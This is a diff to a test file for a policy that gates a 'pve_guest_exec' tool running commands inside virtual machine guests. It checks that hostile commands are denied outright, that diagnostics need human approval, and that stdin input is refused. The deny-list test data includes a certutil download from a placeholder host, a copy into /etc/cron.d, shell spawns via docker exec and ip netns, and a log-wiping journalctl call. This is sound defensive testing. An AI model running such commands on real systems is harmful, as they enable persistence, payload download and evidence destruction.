@@ -108,8 +108,8 @@ describe('the bundled policy.json', () => {
     [
       'a command in a guest',
       'pve_guest_exec',
-      { node: 'pve1', vmid: 100, command: ['systemctl', 'status', 'nginx'], confirm: true },
-      /A command inside a guest can change anything in it/,
+      { node: 'pve1', vmid: 100, command: ['systemctl', 'status', 'nginx.service'], confirm: true },
+      /A command runs inside the guest as root \(SYSTEM on Windows\)/,
     ],
     [
       'a restore',
@@ -168,6 +168,12 @@ describe('the bundled policy.json', () => {
     ['tar', '--checkpoint-action=exec=id', '-cf', '/dev/null', '/'],
     ['python.exe'],
     ['WSL.EXE'],
+    ['cp', '/tmp/x', '/etc/cron.d/x'],
+    ['docker', 'exec', 'web', 'sh'],
+    ['certutil', '-urlcache', '-f', 'http://x/y', 'y.exe'],
+    ['systemctl', '--no-pager', 'stop', 'nginx.service'],
+    ['journalctl', '--vacuum-size=1'],
+    ['ip', 'netns', 'exec', 'x', 'sh'],
   ])(
     'refuses %s as a command in a guest (no approval asked), sending nothing',
     async (...command) => {
@@ -182,6 +188,45 @@ describe('the bundled policy.json', () => {
       expect(await sim.requests()).toEqual([]);
     },
   );
+
+  it.each([
+    ['df', '-h'],
+    ['ip', '-br', 'addr'],
+    ['journalctl', '-u', 'nginx.service', '-n', '50', '--no-pager'],
+  ])(
+    'asks a person to approve the diagnostic %s, sending nothing meanwhile',
+    async (...command) => {
+      await sim.clearLog();
+      const result = await call(client, 'pve_guest_exec', {
+        node: 'pve1',
+        vmid: 100,
+        command,
+        confirm: true,
+      });
+      expect(result.structuredContent!.policy).toMatchObject({
+        decision: 'approval_required',
+        rule: '/tools/pve_guest_exec/action',
+      });
+      expect(await sim.writes()).toEqual([]);
+    },
+  );
+
+  it('refuses stdin for a command in a guest, naming why, and sends nothing', async () => {
+    await sim.clearLog();
+    const result = await call(client, 'pve_guest_exec', {
+      node: 'pve1',
+      vmid: 100,
+      command: ['ps', 'aux'],
+      input_data: 'reboot\n',
+      confirm: true,
+    });
+    expect(result.structuredContent!.policy).toMatchObject({
+      decision: 'deny',
+      rule: '/tools/pve_guest_exec/deny_if/0',
+    });
+    expect(text(result)).toMatch(/no stdin \(input_data\)/);
+    expect(await sim.requests()).toEqual([]);
+  });
 
   it('reads identity files, service configuration and logs inside a guest, and nothing secret', async () => {
     const read = (file: string) =>
